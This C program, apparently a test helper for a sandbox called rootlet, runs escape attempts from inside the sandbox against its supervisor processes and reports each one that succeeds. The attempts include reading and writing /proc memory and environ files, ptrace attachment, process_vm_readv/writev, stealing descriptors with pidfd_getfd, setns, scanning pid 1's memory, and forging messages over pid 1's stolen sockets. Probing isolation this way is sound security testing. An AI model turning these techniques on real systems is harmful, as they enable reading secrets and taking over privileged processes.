/* Attacks of a program inside on rootlet's processes. Each line reports one that succeeded. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void got(int pid, const char *what) {
    printf("got %s of %d\n", what, pid);
    fflush(stdout);
}

static long parent_of(int pid, char *comm) {
    char path[64], line[256];
    long parent = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    *comm = 0;
    while (file && fgets(line, sizeof line, file)) {
        sscanf(line, "Name: %63s", comm);
        if (sscanf(line, "PPid: %ld", &parent) == 1) break;
    }
    if (file) fclose(file);
    return parent;
}

static int is_zombie(int pid) {
    char path[64], state = 0;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *file = fopen(path, "r");
    if (file && fscanf(file, "%*d (%*[^)]) %c", &state) != 1) state = 0;
    if (file) fclose(file);
    return state == 'Z' || state == 'X';
}

/* Attacks by the files of proc, which may show another pid namespace. */
static void files_of(int pid) {
    static const char *const files[] = {"environ", "mem", "maps", "auxv", "root/.", "cwd/.", "ns/mnt", "ns/user"};
    static const char *const links[] = {"exe", "root", "cwd", "ns/mnt", "fd/0", "fd/1"};
    char path[128], where[256];
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int fd = open(path, O_RDONLY);
        /* Some files can be opened, and fail when read. A zombie shows only its user namespace, which is
           the attacker's too. */
        if (fd >= 0 && (read(fd, where, 1) > 0 || errno == EISDIR || errno == EINVAL) && !is_zombie(pid)) got(pid, files[i]);
        if (fd >= 0) close(fd);
    }
    for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
        if (readlink(path, where, sizeof where) >= 0 && !is_zombie(pid)) got(pid, links[i]);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (open(path, O_WRONLY) >= 0 || errno == ETXTBSY) got(pid, "exe to write");
}

static void calls_on(int pid) {
    char byte;
    struct iovec local = {&byte, 1}, remote = {&byte, 1};
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) got(pid, "ptrace"), ptrace(PTRACE_DETACH, pid, 0, 0);
    if (!ptrace(PTRACE_ATTACH, pid, 0, 0)) {
        got(pid, "ptrace attach");
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) got(pid, "process_vm_readv");
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) got(pid, "process_vm_writev");
    if (syscall(SYS_kcmp, getpid(), pid, 2 /* KCMP_FILES */, 0, 0) >= 0) got(pid, "kcmp");
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) return;
    for (int fd = 0; fd < 64; fd++)
        if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0 || errno == EBADF) {
            got(pid, "pidfd_getfd");
            break;
        }
    for (int flag = 0; flag < 2; flag++)
        if (!setns(pidfd, flag ? CLONE_NEWUSER : CLONE_NEWNS)) got(pid, "setns");
    close(pidfd);
}

/* Attacks rootlet's processes above this one, found by name. */
static void look(int count, char **names) {
    char comm[64];
    int looked = 0;
    for (long pid = getppid(); pid > 0; looked++) {
        long parent = parent_of(pid, comm);
        int is_ours = 0;
        for (int i = 0; i < count; i++) is_ours |= !strcmp(comm, names[i]);
        if (!is_ours) break;
        files_of(pid);
        calls_on(pid);
        pid = parent;
    }
    printf("looked at %d\n", looked);
}

/* Attacks the descendants of a process, in a proc of the caller, except this process itself. */
static int below(int pid) {
    char path[320], comm[64];
    int looked = 0;
    snprintf(path, sizeof path, "/proc/%d/task", pid);
    DIR *tasks = opendir(path);
    for (struct dirent *task; tasks && (task = readdir(tasks));) {
        int child;
        snprintf(path, sizeof path, "/proc/%d/task/%s/children", pid, task->d_name);
        FILE *file = fopen(path, "r");
        while (file && fscanf(file, "%d", &child) == 1) {
            parent_of(child, comm);
            if (!strcmp(comm, "attack")) continue;
            files_of(child);
            looked += 1 + below(child);
        }
        if (file) fclose(file);
    }
    if (tasks) closedir(tasks);
    return looked;
}

/* Searches, as real root, the memory of pid 1 for this text. It is passed backwards, so that the search does not find its own argument. */
static void find(char *wanted) {
    for (char *first = wanted, *last = wanted + strlen(wanted) - 1; first < last; first++, last--) {
        char byte = *first;
        *first = *last;
        *last = byte;
    }
    char line[512];
    static char memory[1 << 20];
    FILE *maps = fopen("/proc/1/maps", "r");
    int mem = open("/proc/1/mem", O_RDONLY), found = 0;
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        if (sscanf(line, "%lx-%lx r", &start, &end) != 2) continue;
        for (; start < end; start += sizeof memory / 2) {
            size_t size = end - start < sizeof memory ? end - start : sizeof memory;
            ssize_t length = pread(mem, memory, size, start);
            if (length > 0 && memmem(memory, length, wanted, strlen(wanted))) {
                printf("found in %s", line);
                found = 1;
                break;
            }
        }
    }
    printf(mem < 0 || !maps ? "no memory\n" : found ? "" : "not found\n");
}

/* Stops pid 1 by tracing it. */
static void trace(void) {
    int status;
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) || ptrace(PTRACE_INTERRUPT, 1, 0, 0) || waitpid(1, &status, __WALL) != 1) {
        perror("ptrace");
        return;
    }
    printf("traced\n");
    fflush(stdout);
    for (;;) pause();
}

/* Sends these bytes, in hexadecimal, to the supervisor through each socket of pid 1. */
static void forge(int count, char **messages) {
    int pidfd = syscall(SYS_pidfd_open, 1, 0), sent = 0;
    for (int fd = 0; fd < 64; fd++) {
        int ours = syscall(SYS_pidfd_getfd, pidfd, fd, 0), type;
        socklen_t size = sizeof type;
        if (ours < 0 || getsockopt(ours, SOL_SOCKET, SO_TYPE, &type, &size)) continue;
        for (int i = 0; i < count; i++) {
            unsigned char bytes[32768];
            size_t length = 0;
            for (char *text = messages[i]; text[0] && text[1] && length < sizeof bytes; text += 2) {
                unsigned byte;
                sscanf(text, "%2x", &byte);
                bytes[length++] = byte;
            }
            sent += send(ours, bytes, length, MSG_NOSIGNAL | MSG_DONTWAIT) >= 0;
        }
    }
    printf("sent %d\n", sent);
}

int main(int count, char **arguments) {
    prctl(PR_SET_NAME, "attack");
    const char *what = count > 1 ? arguments[1] : "";
    if (!strcmp(what, "look")) look(count - 2, arguments + 2);
    else if (!strcmp(what, "below")) printf("looked at %d\n", below(atoi(arguments[2])));
    else if (!strcmp(what, "find")) find(arguments[2]);
    else if (!strcmp(what, "trace")) trace();
    else if (!strcmp(what, "forge")) forge(count - 2, arguments + 2);
    else return 2;
    return 0;
}
